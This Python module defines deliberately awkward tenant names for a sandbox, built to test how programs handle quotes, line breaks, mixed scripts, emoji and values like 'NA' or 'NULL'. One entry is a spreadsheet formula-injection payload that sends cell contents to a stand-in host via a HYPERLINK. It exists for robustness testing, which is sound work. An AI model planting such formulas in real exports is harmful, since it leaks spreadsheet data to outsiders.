"""Names of the sandbox's tenants: realistic, with content that breaks careless programs.

Quotes, commas, line breaks, right-to-left and East Asian scripts, emoji, a spreadsheet formula, words that
spreadsheets and CSV readers treat as missing values, numbers with leading zeros.
"""

from __future__ import annotations

ROOT_NAME = "Alpenland Cloud Distribution AG"

# Names of the distributor's first direct children, by place. Places of the form 4n+1 belong to partners.
SPECIAL_NAMES = {
    0: "Bäckerei Müller, GmbH",
    1: "Nordlicht Systemhaus GmbH",
    2: '=HYPERLINK("http://example.invalid/?leak="&A1,"Rechnung")',
    3: "株式会社さくらシステム",
    4: "شركة النور للتقنية",
    5: 'Wagner "IT" & Söhne, Inh. Jürgen Wagner',
    6: "Stadtwerke Hügelheim",
    7: "Christkindlmarkt Pop-up (befristet)",
    8: "Rocket Backup 🚀🛰️",
    9: "東京クラウド商事",
    10: "Schulen & Kitas / Öffentlicher Dienst",
    11: "O'Reilly & Daughters, Summer Festival",
    12: "Zoë’s Café – Zürich",
    13: "Łódź Hosting Sp. z o.o.",
    14: "Praxis Dr. Weiß\nStandort Süd",
    15: "NA",
    16: "007",
    17: "Παπαδόπουλος Cloud ΑΕ",
    18: "@home Services; +49 (0)89 1234",
    19: "-1+1 Agentur",
    20: "NULL",
    21: "Back\\slash & Tab\tTechnik",
}

_FIRST = (
    "Ahorn", "Bergmann", "Côte d’Azur", "Dürr", "Eichendorff", "Fjord", "Garnier", "Hölderlin", "Ibáñez",
    "Jäger", "Kowalski", "Lindqvist", "Møller", "Novák", "Österreicher", "Pérez", "Quelle", "Rossi", "Şahin",
    "Tanaka", "Überlingen", "Văcărescu", "Weiß", "Yıldız", "Zimmermann", "De Vries", "O’Brien", "山田",
    "Иванов", "Nguyễn",
)  # fmt: skip
_TRADE = (
    "Logistik", "Zahnärzte", "Steuerberatung", "Metallbau", "Apotheke", "Consulting", "Immobilien", "Medien",
    "Hotel", "Elektro", "Kanzlei", "Architekten", "Weinhandel", "Reisen", "Optik", "Textil", "Druck",
    "Maschinenbau", "Software",
)  # fmt: skip
_FORM = ("GmbH", "AG", "KG", "e.K.", "Ltd.", "SARL", "S.r.l.", "B.V.", "Sp. z o.o.", "OÜ", "GmbH & Co. KG")
_PARTNER_TRADE = ("Systemhaus", "IT-Service", "Cloud Services", "Managed IT", "Datentechnik", "MSP")
_UNITS = ("Zentrale", "Außenstelle Nord", "Werk 2", "Vertrieb", "Buchhaltung", "Lager")
RENAMED_SUFFIXES = ("", " Gruppe", " International")


def composed_name(kind: str, draw: int, number: int) -> str:
    """A name for a tenant that has none in `SPECIAL_NAMES`.

    Args:
        draw: any number ≥ 0; equal numbers give equal names.
        number: distinguishes namesakes.
    """
    first = _FIRST[draw % len(_FIRST)]
    if kind == "unit":
        return f"{_UNITS[number % len(_UNITS)]} {first}"
    if kind == "folder":
        return f"Ordner {first} #{number}"
    trades = _PARTNER_TRADE if kind == "partner" else _TRADE
    trade = trades[draw // len(_FIRST) % len(trades)]
    form = _FORM[draw // 7 % len(_FORM)]
    return f"{first} {trade} {form} {number}"
